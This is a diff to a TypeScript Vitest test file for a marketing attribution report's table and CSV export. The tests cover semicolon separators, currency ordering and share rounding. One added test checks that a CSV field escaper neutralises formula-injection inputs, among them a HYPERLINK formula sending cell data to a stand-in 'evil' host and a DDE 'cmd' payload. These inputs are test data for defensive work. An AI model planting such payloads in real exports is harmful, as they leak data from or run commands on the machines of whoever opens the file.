@@ -1,9 +1,9 @@
 import { describe, expect, it } from "vitest";
 import { MODELS } from "../../worker/domain/attribution";
 import { creditRows } from "../../worker/domain/attribution-credits";
-import { buildReport, periodDays, rangeInstants, type DealOutcome, type GroupCredit } from "../../worker/domain/attribution-report";
+import { buildReport, currencyOrder, periodDays, rangeInstants, type DealOutcome, type GroupCredit } from "../../worker/domain/attribution-report";
 import type { Journey, SessionTouch } from "../../worker/domain/touchpoints";
-import { reportCells, renderReportCsv } from "../../worker/routes/bitrix-report-page";
+import { csvField, reportCells, renderReportCsv } from "../../worker/routes/bitrix-report-page";
 import { messagesFor } from "../../worker/i18n";
 
 const DAY = 86_400_000;
@@ -111,13 +111,13 @@ describe("the attribution report's figures", () => {
     expect(renderReportCsv(report, { ...filters, entity: "lead" }, "en", messagesFor("en"))).not.toContain("Contacts made");
   });
 
-  it("writes the same cells into the CSV as into the table, with a BOM, and '—' where cost is unknown", () => {
+  it("writes the same cells into the CSV as into the table, with a BOM, ';' between them for Russian Excel, and '—' where cost is unknown", () => {
     const report = buildReport([{ entityId: "1", key: "5", label: "Кампания «Диваны»", share: 1 }], DEALS, []);
     const filters = { period: "30d" as const, days: { from: "2026-11-01", to: "2026-11-30" }, model: "linear" as const, grouping: "comagic_campaign" as const, entity: "lead" as const };
     const csv = renderReportCsv(report, filters, "ru", messagesFor("ru"));
-    expect(csv.startsWith("\uFEFFГруппа,Лиды,")).toBe(true);
+    expect(csv.startsWith("\uFEFFГруппа;Лиды;")).toBe(true);
     const cells = reportCells(report, filters, "ru", messagesFor("ru"));
-    expect(csv.split("\r\n")[1]).toBe(cells[0]?.map((c) => c.text).join(","));
+    expect(csv.split("\r\n")[1]).toBe(cells[0]?.map((c) => c.text).join(";"));
     expect(cells[0]?.[7]?.text).toBe("—");
   });
 
@@ -127,5 +127,46 @@ describe("the attribution report's figures", () => {
     expect(periodDays("last_month", now, "Europe/Moscow")).toEqual({ from: "2026-11-01", to: "2026-11-30" });
     expect(periodDays("custom", now, "Europe/Moscow", { from: "2026-11-10", to: "2026-11-01" })).toEqual({ from: "2026-11-10", to: "2026-11-10" });
     expect(rangeInstants({ from: "2026-11-01", to: "2026-11-30" }, "Europe/Moscow")).toEqual({ from: new Date("2026-10-31T21:00:00Z"), to: new Date("2026-11-30T21:00:00Z") });
+  });
+
+  it.each([
+    ['=HYPERLINK("https://evil/?"&A3,"Open")', `"'=HYPERLINK(""https://evil/?""&A3,""Open"")"`],
+    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
+    ["-1+1", "'-1+1"],
+    ["@SUM(A1)", "'@SUM(A1)"],
+    ["\t=1+1", "'\t=1+1"],
+    ["\r=1+1", `"'\r=1+1"`],
+    ["google", "google"],
+    ["a=b", "a=b"],
+  ])("writes the group name %j into the CSV as %s", (text, cell) => {
+    expect(csvField({ text, figure: false })).toBe(cell);
+  });
+
+  it("leaves the worker's own figures as they are, a negative ROMI included", () => {
+    expect(csvField({ text: "-100%", figure: true })).toBe("-100%");
+  });
+
+  it("orders currencies by how many groups carry them (revenue or cost), then by code", () => {
+    const report = buildReport(
+      [
+        { entityId: "1", key: "a", label: "a", share: 1 },
+        { entityId: "2", key: "b", label: "b", share: 1 },
+        { entityId: "3", key: "c", label: "c", share: 1 },
+      ],
+      [
+        { entityId: "1", dealId: "1", semantic: "S", amount: 1_000_000, currency: "USD" },
+        { entityId: "2", dealId: "2", semantic: "S", amount: 10, currency: "RUB" },
+      ],
+      [{ key: "c", label: "c", currency: "RUB", cost: 5 }],
+    );
+    expect(currencyOrder(report)).toEqual(["RUB", "USD"]);
+  });
+
+  it("shows shares with two decimals, so a lead's four linear quarters read 0.25 and add up to 1", () => {
+    const credits: GroupCredit[] = ["a", "b", "c", "d"].map((key) => ({ entityId: "1", key, label: key, share: 0.25 }));
+    const filters = { period: "30d" as const, days: { from: "2026-11-01", to: "2026-11-30" }, model: "linear" as const, grouping: "utm_source" as const, entity: "lead" as const };
+    const cells = reportCells(buildReport(credits, [], null), filters, "en", messagesFor("en"));
+    expect(cells.slice(0, 4).map((row) => row[1]?.text)).toEqual(["0.25", "0.25", "0.25", "0.25"]);
+    expect(cells.at(-1)?.[1]?.text).toBe("1");
   });
 });
